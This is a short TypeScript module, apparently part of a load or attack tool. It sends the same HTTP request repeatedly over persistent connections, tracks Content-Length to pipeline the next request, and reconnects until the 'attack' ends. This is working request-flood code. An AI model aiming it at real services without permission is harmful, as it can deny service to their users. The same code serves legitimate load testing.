import type { Target } from './attack';

/** Bytes that an answer still lacks after a chunk of it, given those that it lacked before. */
function lacking(chunk: Buffer, before: number): number {
  const length = /content-length: (\d+)\r\n(?:.+\r\n)*\r\n/i.exec(chunk.toString('latin1'));
  return before + (length ? Number(length[1]) + length.index + length[0].length - chunk.length : -chunk.length);
}

/** Asks over one connection, each time when the answer before is there to its last byte, until it is closed. */
function onOneConnection(target: Target, request: string): Promise<void> {
  const socket = target.connect();
  let left = 0;
  socket.on('data', (chunk) => {
    left = lacking(chunk, left);
    if (left > 0) return;
    if (target.goesOn()) socket.write(request);
    else socket.destroy();
  });
  socket.write(request);
  return new Promise((resolve) => socket.once('close', () => resolve()));
}

/** Asks the same again and again for the time of the attack, over a new connection where the one before was closed. */
export async function askAgain(target: Target, request: string): Promise<void> {
  do await onOneConnection(target, request);
  while (target.goesOn());
}
